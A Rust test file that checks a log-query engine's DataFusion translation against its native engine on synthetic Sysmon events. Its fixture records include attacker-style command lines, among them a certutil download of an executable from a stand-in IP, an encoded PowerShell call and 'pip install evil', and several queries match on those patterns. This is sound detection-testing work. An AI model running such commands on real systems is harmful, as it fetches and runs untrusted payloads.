//! The DataFusion translation against the native engine: each query runs on
//! both over the same in-memory records and must give the same rows in the
//! same order.

#![cfg(feature = "datafusion")]

use std::sync::Arc;

use datafusion::arrow::array::{ArrayRef, Float64Array, RecordBatch, StringArray, UInt64Array};
use datafusion::arrow::datatypes::{DataType, Field, Schema};
use datafusion::datasource::MemTable;
use datafusion::prelude::SessionContext;
use sumoql_engine::datafusion::{result_table, scalar_functions, translate, SEQUENCE_COLUMN};
use sumoql_engine::{compile, Execution, Record, ResultTable, Value};
use sumoql_syntax::parse_query;

const COLUMNS: &[&str] = &[
    "_raw",
    "_sourceCategory",
    "_sourceHost",
    "EventID",
    "Image",
    "CommandLine",
    "ParentImage",
    "User",
    "DestinationPort",
];

/// One test record: the text of each column in `COLUMNS`, and its time.
struct TestRecord {
    texts: Vec<Option<String>>,
    time: Option<f64>,
}

impl Record for TestRecord {
    fn field(&self, lowercase_name: &str) -> Option<Value> {
        if lowercase_name == "_messagetime" {
            return self.time.map(Value::Number);
        }
        let index = COLUMNS
            .iter()
            .position(|name| name.eq_ignore_ascii_case(lowercase_name))?;
        self.texts[index].as_deref().map(Value::text)
    }
}

fn event(
    host: &str,
    event_id: u32,
    image: &str,
    command_line: &str,
    parent: &str,
    port: Option<u32>,
    time: f64,
) -> TestRecord {
    let raw = format!(
        "<Event><EventID>{event_id}</EventID><Computer>{host}</Computer><Image><![CDATA[{image}]]></Image><CommandLine><![CDATA[{command_line}]]></CommandLine><ParentImage><![CDATA[{parent}]]></ParentImage>{}</Event>",
        port.map(|port| format!("<DestinationPort>{port}</DestinationPort>")).unwrap_or_default()
    );
    TestRecord {
        texts: vec![
            Some(raw),
            Some("windows/sysmon".to_string()),
            Some(host.to_string()),
            Some(event_id.to_string()),
            Some(image.to_string()),
            Some(command_line.to_string()),
            Some(parent.to_string()),
            (event_id != 3).then(|| format!("CORP\\user{}", event_id % 3)),
            port.map(|port| port.to_string()),
        ],
        time: Some(time),
    }
}

fn records() -> Vec<TestRecord> {
    let mut records = vec![
        event(
            "ws-01",
            1,
            r"C:\Windows\System32\cmd.exe",
            "cmd /c whoami",
            r"C:\Python311\python.exe",
            None,
            1_700_000_000_000.0,
        ),
        event(
            "ws-02",
            1,
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell -enc AAAA",
            r"C:\Program Files\nodejs\node.exe",
            None,
            1_700_000_060_000.0,
        ),
        event(
            "ws-01",
            3,
            r"C:\Python311\python.exe",
            "",
            "",
            Some(4444),
            1_700_000_120_000.0,
        ),
        event(
            "ws-03",
            3,
            r"C:\Program Files\nodejs\node.exe",
            "",
            "",
            Some(443),
            1_700_000_180_000.0,
        ),
        event(
            "ws-02",
            11,
            r"C:\Python311\Scripts\pip.exe",
            "pip install evil",
            r"C:\Python311\python.exe",
            None,
            1_700_000_240_000.0,
        ),
        event(
            "ws-01",
            1,
            r"C:\Windows\System32\certutil.exe",
            "certutil -urlcache -f http://203.0.113.5/a.exe",
            r"C:\Python311\Scripts\pip.exe",
            None,
            1_700_000_300_000.0,
        ),
        event(
            "WS-01",
            1,
            r"C:\Windows\explorer.exe",
            "explorer.exe",
            r"C:\Windows\System32\userinit.exe",
            None,
            1_700_000_360_000.0,
        ),
        event(
            "ws-03",
            3,
            r"C:\Program Files\nodejs\node.exe",
            "",
            "",
            Some(8080),
            1_700_000_420_000.0,
        ),
    ];
    records.push(TestRecord {
        texts: vec![
            Some("plain text line with error 42".to_string()),
            Some("app/log".to_string()),
            Some("ws-09".to_string()),
            None,
            None,
            None,
            None,
            None,
            None,
        ],
        time: None,
    });
    records
}

fn native(query: &str, records: &[TestRecord]) -> ResultTable {
    let query = parse_query(query).expect("query parses");
    let plan = compile(&query).expect("query compiles");
    let mut execution = Execution::new(&plan);
    for record in records {
        execution.push(record);
    }
    execution.finish().expect("within the group limit")
}

fn table(records: &[TestRecord]) -> MemTable {
    let mut fields: Vec<Field> = COLUMNS
        .iter()
        .map(|name| Field::new(*name, DataType::Utf8, true))
        .collect();
    fields.push(Field::new("_messageTime", DataType::Float64, true));
    fields.push(Field::new(SEQUENCE_COLUMN, DataType::UInt64, false));
    let schema = Arc::new(Schema::new(fields));
    let mut columns: Vec<ArrayRef> = (0..COLUMNS.len())
        .map(|index| {
            let texts: StringArray = records
                .iter()
                .map(|record| record.texts[index].as_deref())
                .collect();
            Arc::new(texts) as ArrayRef
        })
        .collect();
    let times: Float64Array = records.iter().map(|record| record.time).collect();
    columns.push(Arc::new(times));
    columns.push(Arc::new(UInt64Array::from_iter_values(
        0..records.len() as u64,
    )));
    let batch = RecordBatch::try_new(schema.clone(), columns).expect("batch");
    // Two partitions, so the translation cannot lean on one input order.
    let (first, second) = (batch.slice(0, 4), batch.slice(4, batch.num_rows() - 4));
    MemTable::try_new(schema, vec![vec![second], vec![first]]).expect("table")
}

fn on_datafusion(query: &str, records: &[TestRecord]) -> ResultTable {
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    runtime.block_on(async {
        let context = SessionContext::new();
        for function in scalar_functions() {
            context.register_udf(function.as_ref().clone());
        }
        context
            .register_table("logs", Arc::new(table(records)))
            .expect("register");
        let query = parse_query(query).expect("query parses");
        let plan = compile(&query).expect("query compiles");
        let scan = context
            .table("logs")
            .await
            .expect("table")
            .into_unoptimized_plan();
        let logical = translate(&plan, scan).unwrap_or_else(|error| panic!("{}", error.message));
        let batches = context
            .execute_logical_plan(logical)
            .await
            .expect("plan")
            .collect()
            .await
            .expect("run");
        result_table(&plan, &batches).expect("result")
    })
}

fn same_on_both(query: &str) -> ResultTable {
    let records = records();
    let expected = native(query, &records);
    let actual = on_datafusion(query, &records);
    assert_eq!(actual, expected, "query: {query}");
    expected
}

#[test]
fn scope_keywords_and_terms() {
    same_on_both("_sourceCategory=windows/sysmon");
    same_on_both("python OR node");
    same_on_both("\"error 42\"");
    same_on_both("_sourceCategory=windows* AND NOT _sourceHost=ws-01");
    same_on_both("_sourceHost!=WS-0?");
}

#[test]
fn parse_with_and_without_nodrop() {
    same_on_both(r#"* | parse "<Image><![CDATA[*]]>" as image | fields image"#);
    same_on_both(
        r#"* | parse "<DestinationPort>*</DestinationPort>" as port nodrop | fields _sourceHost, port"#,
    );
    same_on_both(
        r#"* | parse "<Image><![CDATA[*]]>" as image nodrop | parse "<DestinationPort>*</DestinationPort>" as port | fields image, port"#,
    );
    same_on_both(
        r#"* | parse regex "Computer>(?<computer>[^<]+)<" | parse regex "Port>(?<p>\d+)<" nodrop | fields computer, p"#,
    );
}

#[test]
fn where_conditions_and_functions() {
    same_on_both(r#"* | where image matches "*\\cmd.exe" or image matches "*\\certutil.exe""#);
    same_on_both(r#"* | where !(image matches "*python*") | fields image"#);
    same_on_both(r#"* | where num(DestinationPort) > 1000 | fields _sourceHost, DestinationPort"#);
    same_on_both(r#"* | where EventID = 1 and User matches "CORP*" | count by User"#);
    same_on_both(
        r#"* | "T1204.005" as technique | concat(_sourceHost, ":", EventID) as key | fields technique, key"#,
    );
    same_on_both(
        r#"* | if(EventID in ("1", "3"), "process or network", "other") as kind | fields kind"#,
    );
    same_on_both(
        r#"* | toLowerCase(_sourceHost) as host | replace(CommandLine, /\s+/, " ") as cmd | fields host, cmd"#,
    );
    same_on_both(r#"* | where CommandLine matches /.*-(enc|urlcache).*/ | fields CommandLine"#);
    same_on_both(
        r#"* | num(DestinationPort) * 2 + 1 as doubled | where isNull(DestinationPort) or doubled > 900 | fields doubled"#,
    );
}

#[test]
fn fields_union_sort_and_limit() {
    same_on_both(r#"* | fields _sourceHost, EventID as id"#);
    same_on_both(r#"* | sort by _sourceHost asc, EventID"#);
    same_on_both(r#"* | sort by num(DestinationPort) | fields DestinationPort, _sourceHost"#);
    same_on_both(r#"* | limit 3"#);
    same_on_both(r#"* | sort by _messageTime | limit 2 | fields _sourceHost"#);
    let union = same_on_both(
        r#"_sourceCategory=windows/sysmon | where EventID = 1 | "process" as kind
           | union [ python | where EventID = 3 | "network" as kind ]
           | fields _sourceHost, kind"#,
    );
    assert_eq!(union.rows.len(), 5, "four process rows and one network row");
}

#[test]
fn aggregates() {
    same_on_both("* | count");
    let hosts = same_on_both("* | count by _sourceHost");
    assert_eq!(hosts.rows.len(), 5, "ws-01, ws-02, ws-03, WS-01 and ws-09");
    same_on_both("* | count by _sourceHost, EventID | sort by _count desc, _sourceHost");
    same_on_both("* | sum(DestinationPort), avg(DestinationPort), min(DestinationPort), max(DestinationPort) by _sourceHost");
    same_on_both("* | count_distinct(Image) as images, count(User) by EventID");
    same_on_both("nothing_matches_this | count");
    same_on_both("nothing_matches_this | count by _sourceHost");
}

#[test]
fn untranslatable_operators_are_named() {
    let query = parse_query("* | json auto | count").expect("parses");
    let plan = compile(&query).expect("compiles");
    let context = SessionContext::new();
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    let scan = runtime.block_on(async {
        context
            .register_table("logs", Arc::new(table(&records())))
            .expect("register");
        context
            .table("logs")
            .await
            .expect("table")
            .into_unoptimized_plan()
    });
    let error = translate(&plan, scan).expect_err("json is not translated");
    assert!(
        error.message.contains("cannot run on DataFusion"),
        "{}",
        error.message
    );
}
